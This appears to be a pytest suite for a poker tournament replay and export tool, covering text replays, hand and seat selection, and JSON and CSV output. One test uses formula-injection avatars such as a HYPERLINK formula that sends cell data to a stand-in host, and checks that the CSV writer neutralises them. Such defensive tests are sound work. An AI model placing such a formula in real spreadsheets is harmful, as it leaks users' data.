"""A recorded tournament watched again: whole replays as text, and what is chosen from one.

Programs get the same as JSON lines and CSV.
"""

import csv
import json
from collections.abc import Callable
from io import BytesIO, StringIO, TextIOWrapper
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console
from trio.testing import MockClock

from dealer.errors import JournalError, OptionError, TornError
from dealer.replay.hand_screen import NoteSentences
from dealer.replay.journal_reader import Choice, Note, Unfinished, replay_items
from dealer.replay.show import COLUMNS, json_line, print_replay, write_csv
from dealer.settings import Settings
from dealer.telling.seen_hand import SeenHand
from protocol.events import (
    Acted,
    Away,
    Back,
    Ended,
    Event,
    GameBegun,
    HostSaid,
    Left,
    LevelBegun,
    Moved,
    Resumed,
    RoundBegun,
    StreetDealt,
    Voided,
)
from protocol.games.base import FOLD, Bet
from protocol.games.stud import StudGame
from protocol.wire.messages import is_printable
from tests.dealer.support.altered_journals import play_with_a_host
from tests.dealer.support.golden_replays import (
    FOLDER,
    REPLAYS,
    painted,
    replayed,
    write_blockhead,
    write_hosted,
    write_stud,
)
from tests.dealer.support.raw_records import read_raw
from tests.dealer.support.rig import SEED, by_chance
from tests.dealer.support.scribe import Scribe, players


@pytest.fixture
def stud(tmp_path: Path) -> Path:
    return write_stud(tmp_path / "stud.journal")


@pytest.fixture
def two_tables(tmp_path: Path) -> Path:
    """Five players at two tables, two hands at one and one at the other; two have the same avatar."""
    scribe = Scribe(Settings(SEED, StudGame(60, 1), table_size=3), players("Amit", "Brian", "Carlos", "Amit", "1"))
    for table, hands in ((0, 2), (1, 1)):
        scribe.game(table)
        for _ in range(hands):
            scribe.hand(lambda player, turn: Bet(turn.owed), table)
    return scribe.write(tmp_path / "two.journal")


@pytest.mark.parametrize("name", REPLAYS)
def test_replay_equals_golden_file(name: str, tmp_path: Path) -> None:
    assert replayed(name, tmp_path) == (FOLDER / f"{name}.txt").read_text("utf-8")


def test_every_golden_file_is_used() -> None:
    assert {file.stem for file in FOLDER.glob("*.txt")} == set(REPLAYS)


def scripts(path: Path, choice: Choice = Choice()) -> list[SeenHand]:  # noqa: B008 - frozen
    return [item for item in replay_items(path, choice) if isinstance(item, SeenHand)]


def notes(path: Path, choice: Choice = Choice()) -> list[Note]:  # noqa: B008 - frozen
    return [item for item in replay_items(path, choice) if isinstance(item, Note)]


def between(path: Path, choice: Choice = Choice()) -> list[Event]:  # noqa: B008 - frozen
    return [note.event for note in notes(path, choice)]


def what(item: SeenHand | Note) -> SeenHand | Event:
    return item.event if isinstance(item, Note) else item


@pytest.mark.parametrize("write", [write_stud, write_blockhead])
def test_events_add_up_to_stacks(write: Callable[[Path], Path], tmp_path: Path) -> None:
    for script in scripts(write(tmp_path / "a.journal")):
        acts = [event for event in script.events if isinstance(event, Acted)]
        opening = script.events[0]
        assert isinstance(opening, StreetDealt)
        pot = opening.pot
        for act in acts:
            assert act.pot == pot
            pot += act.chips
        assert pot == script.pot == sum(part.chips for part in script.collected) + script.carried
        for seat, shown in zip(script.seats, opening.seats, strict=True):
            put = sum(act.chips for act in acts if act.seat == seat.seat)
            got = sum(part.chips for part in script.collected if part.seat == seat.seat)
            assert seat.after == shown.stack - put + got


def test_notes_follow_the_hand_they_belong_to(stud: Path) -> None:
    order = [(type(item), getattr(item, "hand", None)) for item in map(what, replay_items(stud, Choice()))][2:]
    assert order == [
        (SeenHand, 1),
        (Left, 1),
        (SeenHand, 2),
        (SeenHand, 3),
        (Left, 3),
        (Away, 3),
        (SeenHand, 4),
        (Resumed, None),
        (Voided, 5),
        (Back, 5),
        (SeenHand, 6),
        (Ended, None),
    ]


def test_notes_of_an_unrecorded_hand_are_shown(tmp_path: Path) -> None:
    scribe = Scribe(Settings(SEED, StudGame()), players("Amit", "Brian"))
    scribe.game()
    state = scribe.ledger.seating.tables[0]
    scribe.ledger.deal(state, scribe.ledger.next_deck(state))
    scribe.out(scribe.players[0], "you are out: late", "late")
    path = scribe.write(tmp_path / "a.journal")
    left, unfinished = between(path)[2:]
    assert isinstance(left, Left)
    assert isinstance(unfinished, Unfinished)
    path.write_bytes(path.read_bytes() + b"\x92\xc4\x04torn")
    reading = replay_items(path, Choice())
    assert [what(next(reading)) for _ in range(3)][-1] == left
    with pytest.raises(TornError):
        next(reading)


def test_one_hand_is_shown_with_its_notes(stud: Path) -> None:
    script, left = map(what, replay_items(stud, Choice(hand=1)))
    assert isinstance(script, SeenHand)
    assert isinstance(left, Left)
    assert (script.hand, left.hand) == (1, 1)
    assert what(next(replay_items(stud, Choice(hand=5)))) == Voided(0, 5)


def test_early_hand_of_a_torn_journal_is_shown(stud: Path) -> None:
    stud.write_bytes(stud.read_bytes()[:-1])
    assert [script.hand for script in scripts(stud, Choice(hand=2))] == [2]
    with pytest.raises(TornError):
        scripts(stud, Choice(hand=6))


def test_table_can_be_selected(two_tables: Path) -> None:
    assert [(script.table, script.hand) for script in scripts(two_tables)] == [(0, 1), (0, 2), (1, 1)]
    assert [script.table for script in scripts(two_tables, Choice(hand=1))] == [0, 1]
    assert [script.hand for script in scripts(two_tables, Choice(table=0))] == [1, 2]
    assert "Game" not in painted(two_tables, Choice())


@pytest.mark.parametrize(
    ("seat", "ids"),
    [
        ("0", ["p0", "p0", "p1"]),
        ("2", ["p4", "p4"]),
        ("p1", ["p1"]),
        ("Brian", ["p1"]),
        ("p3", ["p3"]),
    ],
)
def test_viewer_by_seat_id_or_avatar(seat: str, ids: list[str], two_tables: Path) -> None:
    seen = scripts(two_tables, Choice(seat=seat))
    assert [[shown.id for shown in script.seats if shown.id] for script in seen] == [[id] for id in ids]
    assert [script.viewer for script in seen] == [
        next(shown.seat for shown in script.seats if shown.id) for script in seen
    ]


@pytest.mark.parametrize(
    ("journal", "choice", "reason"),
    [
        ("two_tables", Choice(hand=3), "there is no hand 3: hands count from 1 to 2"),
        ("two_tables", Choice(hand=2, table=1), "there is no hand 2: hands count from 1 to 1"),
        ("two_tables", Choice(table=2), "there is no table 2: tables count from 0 to 1"),
        (
            "two_tables",
            Choice(seat="Bob"),
            "there is no player 'Bob'; --seat takes a seat from 0 to 2, an id or an avatar",
        ),
        ("two_tables", Choice(seat="3"), "there is no player '3'"),
        ("two_tables", Choice(seat="²"), "there is no player '²'"),
        ("two_tables", Choice(seat="Amit"), "2 players have the avatar 'Amit'; name one by its id"),
        ("two_tables", Choice(seat="1"), "--seat 1 is a seat, and a player is called 1 too"),
        ("two_tables", Choice(seat="p1", table=0), "'p1' was dealt in no hand at table 0"),
        ("two_tables", Choice(seat="p1", hand=2), "'p1' was not dealt in hand 2"),
        ("two_tables", Choice(seat="2", table=1), "'2' was dealt in no hand"),
        ("hosted", Choice(table=4), "there is no table 4: tables count from 0 to 3"),
        ("hosted", Choice(seat="Denise", table=0), "'Denise' was dealt in no hand at table 0"),
        ("hosted", Choice(seat="Denise", hand=2), "'Denise' was not dealt in hand 2"),
        ("hosted", Choice(seat="Denise", hand=2, table=1), "'Denise' was not dealt in hand 2 at table 1"),
        ("hosted", Choice(seat="3"), "--seat takes a seat from 0 to 2"),
        ("hosted", Choice(hand=4), "there is no hand 4: hands count from 1 to 3"),
    ],
)
def test_unknown_hand_table_or_seat_is_refused(
    journal: str, choice: Choice, reason: str, request: pytest.FixtureRequest
) -> None:
    with pytest.raises(OptionError, match=reason):
        list(replay_items(request.getfixturevalue(journal), choice))


def test_viewer_who_left_sees_no_later_hand(stud: Path) -> None:
    assert [script.hand for script in scripts(stud, Choice(seat="p2"))] == [1]
    assert not any(isinstance(note, Away | Back | Voided) for note in between(stud, Choice(seat="p2")))
    with pytest.raises(OptionError, match=r"'p2' was not dealt in hand 2"):
        scripts(stud, Choice(seat="p2", hand=2))


@pytest.mark.parametrize("batches", [0, 1, 2])
def test_started_journal_without_a_hand_is_shown(batches: int, tmp_path: Path) -> None:
    scribe = Scribe(Settings(SEED, StudGame()), players("Amit", "Brian"))
    scribe.game()
    path = tmp_path / "a.journal"
    path.write_bytes(b"".join(scribe.batches[:batches]))
    if batches:
        assert scripts(path, Choice(seat="p0")) == []
        with pytest.raises(OptionError, match=r"there is no hand 1: none was finished"):
            scripts(path, Choice(hand=1))
    else:
        with pytest.raises(JournalError, match=r"no tournament was started"):
            scripts(path)


def crowded(path: Path) -> Path:
    avatars = [*(f"A player with a long name {n}" for n in range(15)), "顺子顺子顺子顺子顺子顺子顺子顺子", "e" * 32]
    scribe = Scribe(Settings(SEED, StudGame(20_000, 5)), players(*avatars))
    scribe.game()
    decide = by_chance(1)
    scribe.hand(lambda player, turn: decide(turn) if turn.pot < 500 else Bet(turn.owed))
    scribe.hand(lambda player, turn: FOLD if turn.owed else Bet(10))
    return scribe.write(path)


@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "latin-1"])
def test_seventeen_seats_fit_a_terminal(encoding: str, tmp_path: Path) -> None:
    path = crowded(tmp_path / "a.journal")
    text = painted(path, Choice(), 80, encoding)
    assert max(map(cell_len, text.splitlines())) <= 80
    assert ("♠" in text) == (encoding == "utf-8")
    assert not any(line.endswith(" ") for line in text.splitlines())


@given(st.text(max_size=40))
def test_names_and_reasons_are_shown_as_text(text: str) -> None:
    left = Left(0, 0, 1, 60, True, "late", text)
    sentences = NoteSentences().of(Note(left, text))
    assert all(map(is_printable, "".join(sentences)))
    file = TextIOWrapper(BytesIO(), "utf-8", errors="replace", newline="\n")
    print_replay(iter([Note(left, f"[red]{text}")]), Console(file=file, force_terminal=True))
    file.seek(0)
    assert "[red]" in file.read()


def test_file_gets_plain_text(stud: Path) -> None:
    file = TextIOWrapper(BytesIO(), "utf-8")
    print_replay(replay_items(stud, Choice()), Console(file=file))
    file.seek(0)
    assert "\x1b" not in file.read()


@pytest.fixture
def hosted(tmp_path: Path) -> Path:
    return write_hosted(tmp_path / "hosted.journal")


def places(path: Path, choice: Choice) -> list[tuple[int, int]]:
    return [(script.table, script.hand) for script in scripts(path, choice)]


@pytest.mark.parametrize(
    ("choice", "shown"),
    [
        (Choice(), [(0, 1), (1, 1), (0, 2), (1, 2), (1, 3), (3, 1)]),
        (Choice(table=0), [(0, 1), (0, 2)]),
        (Choice(table=3), [(3, 1)]),
        (Choice(hand=1), [(0, 1), (1, 1), (3, 1)]),
        (Choice(hand=2), [(0, 2), (1, 2)]),
        (Choice(hand=3), [(1, 3)]),
        (Choice(seat="Carlos"), [(0, 1), (1, 2), (1, 3)]),
        (Choice(seat="Carlos", table=1), [(1, 2), (1, 3)]),
        (Choice(seat="Carlos", table=0), [(0, 1)]),
        (Choice(seat="Steph"), [(0, 1), (0, 2), (3, 1)]),
        (Choice(seat="Steph", hand=1), [(0, 1), (3, 1)]),
        (Choice(seat="Amit", hand=3), [(1, 3)]),
        (Choice(seat="2"), [(0, 1), (1, 3)]),
    ],
)
def test_viewer_is_followed_between_tables(choice: Choice, shown: list[tuple[int, int]], hosted: Path) -> None:
    assert places(hosted, choice) == shown
    for script in scripts(hosted, choice):
        if choice.seat is not None and not choice.seat.isdigit():
            assert script.viewer is not None
            assert script.seats[script.viewer].avatar == choice.seat
            assert [seat.hole is not None for seat in script.seats] == [
                seat.seat == script.viewer for seat in script.seats
            ]


def test_notes_between_tables(hosted: Path) -> None:
    kinds = (Moved, RoundBegun, LevelBegun, HostSaid, Left)
    told = [note for note in notes(hosted) if isinstance(note.event, kinds)]
    assert [note.event for note in told] == [
        HostSaid("pace", None, 1.5, None),
        HostSaid("remove", 3, None, "plays for another student"),
        Left(3, 1, 1, 40, True, "removed", "you are out: plays for another student"),
        Moved(2, 0, 1, False),
        Left(4, 0, 2, 38, False, None, "you are out: broke"),
        HostSaid("pause", None, None, None),
        HostSaid("resume", None, None, None),
        LevelBegun(2, {"ante": 4}),
        Moved(0, 0, 1, True),
        HostSaid("level", None, None, None),
        LevelBegun(3, {"ante": 6}),
        RoundBegun(2, [[1, 2], [0, 4]]),
        HostSaid("end", None, None, None),
    ]
    names = [(note.id, note.avatar) for note in told if note.avatar]
    assert names == [("p3", "Denise"), ("p3", "Denise"), ("p2", "Carlos"), ("p4", "Steph"), ("p0", "Amit")]


def test_viewer_sees_moves_at_its_table_without_ids(hosted: Path) -> None:
    def moves(seat: str) -> list[tuple[Event, str | None, str | None]]:
        told = notes(hosted, Choice(seat=seat))
        return [(note.event, note.id, note.avatar) for note in told if isinstance(note.event, Moved)]

    carlos, amit = Moved(2, 0, 1, False), Moved(0, 0, 1, True)
    assert moves("Carlos") == [(carlos, "p2", "Carlos"), (amit, None, "Amit")]
    assert moves("Steph") == [(carlos, None, "Carlos"), (amit, None, "Amit")]  # went broke there, and watches
    told = between(hosted, Choice(seat="Carlos"))
    assert not any(isinstance(event, Left) for event in told)
    assert [event.table for event in told if isinstance(event, GameBegun)] == [0, 2]
    assert not any(isinstance(event, Moved) for event in between(hosted, Choice(hand=2)))


async def test_replay_of_a_played_tournament_is_complete(tmp_path: Path, tcp_clock: MockClock) -> None:
    """Every hand of every player, once, in the order of the journal, wherever it was dealt."""
    await play_with_a_host(tmp_path / "a.journal")
    records = [record for record in read_raw(tmp_path / "a.journal") if record["type"] == "hand"]
    for player in range(8):
        own = [(record["table"], record["hand"]) for record in records if player in record["players"]]
        assert places(tmp_path / "a.journal", Choice(seat=f"chance-{player}")) == own
    shown = scripts(tmp_path / "a.journal")
    assert [(script.table, script.hand, script.level) for script in shown] == [
        (record["table"], record["hand"], record["level"]) for record in records
    ]


both = pytest.mark.parametrize("write", [write_stud, write_blockhead])


def rows(path: Path, choice: Choice = Choice()) -> list[dict[str, str]]:  # noqa: B008 - frozen
    sheet = StringIO(newline="")
    write_csv(replay_items(path, choice), sheet)
    sheet.seek(0)
    return list(csv.DictReader(sheet))


def lines(path: Path, choice: Choice = Choice()) -> list[dict[str, Any]]:  # noqa: B008 - frozen
    return [json.loads(json_line(item)) for item in replay_items(path, choice)]


@both
def test_json_and_csv_equal_the_journal(write: Callable[[Path], Path], tmp_path: Path) -> None:
    path = write(tmp_path / "a.journal")
    records = [record for record in read_raw(path) if record["type"] == "hand"]
    hands = [line for line in lines(path) if line["type"] == "hand"]
    table = [row for row in rows(path) if row["action"] not in ("forced", "void")]
    in_lines, in_table = [], []
    for record, hand in zip(records, hands, strict=True):
        assert [seat["before"] for seat in hand["seats"]] == record["stacks"]
        assert [seat["after"] - seat["before"] for seat in hand["seats"]] == record["payoffs"]
        acts = [event for event in hand["events"] if event["event"] == "action" and event["action"] != "forced"]
        in_lines += [(act["seat"], act["chips"], act["microseconds"]) for act in acts]
        in_table += [(seat, max(chips, 0), microseconds) for seat, chips, microseconds in record["actions"]]
    assert in_lines == in_table
    assert [(int(row["seat"]), int(row["chips"]), row["microseconds"]) for row in table] == [
        (seat, chips, "" if microseconds is None else str(microseconds)) for seat, chips, microseconds in in_table
    ]


def test_columns_of_a_csv_row(tmp_path: Path) -> None:
    first, *_ = rows(write_stud(tmp_path / "a.journal"))
    assert first == {
        **{"table": "0", "hand": "1", "game": "1", "level": "1", "street": "1", "seat": "3"},
        **{"id": "p3", "avatar": "德妮絲 :pizza:"},
        **{"action": "bet", "chips": "5", "pot": "8", "owed": "0", "stack": "58", "microseconds": "37129"},
        **{"fault": "", "reason": "", "asked": ""},
    }
    assert tuple(first) == COLUMNS


def test_csv_rows_of_faults_forced_folds_and_voids(tmp_path: Path) -> None:
    table = rows(write_stud(tmp_path / "a.journal"))
    (fault,) = (row for row in table if row["fault"])
    assert (fault["action"], fault["fault"], fault["id"]) == ("given-up", "malformed", "p2")
    assert "\x1b[2J" in fault["reason"]
    (forced,) = (row for row in table if row["action"] == "forced")
    assert (forced["hand"], forced["owed"], forced["microseconds"]) == ("3", "", "")
    (void,) = (row for row in table if row["action"] == "void")
    assert (void["table"], void["hand"], void["seat"]) == ("0", "5", "")


@both
def test_export_of_selected_hands(write: Callable[[Path], Path], tmp_path: Path) -> None:
    path = write(tmp_path / "a.journal")
    choice = Choice(hand=2, table=0, seat="0")
    assert {row["hand"] for row in rows(path, choice)} == {"2"}
    (line,) = lines(path, choice)
    assert (line["hand"], line["viewer"]) == (2, 0)
    assert [seat["hole"] is None for seat in line["seats"]] == [seat["seat"] != 0 for seat in line["seats"]]


@pytest.mark.parametrize("avatar", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@x", 'a,"b";\u2028c'])
def test_avatars_cannot_be_formulas(avatar: str, tmp_path: Path) -> None:
    scribe = Scribe(Settings(SEED, StudGame()), players(avatar, "Brian"))
    scribe.game()
    scribe.hand(lambda player, turn: Bet(turn.owed))
    path = scribe.write(tmp_path / "a.journal")
    (cell,) = {row["avatar"] for row in rows(path)} - {"Brian"}
    assert cell.lstrip("'") == avatar
    assert not cell.startswith(("=", "+", "-", "@"))
    (hand,) = (line for line in lines(path) if line["type"] == "hand")
    assert hand["seats"][0]["avatar"] == avatar
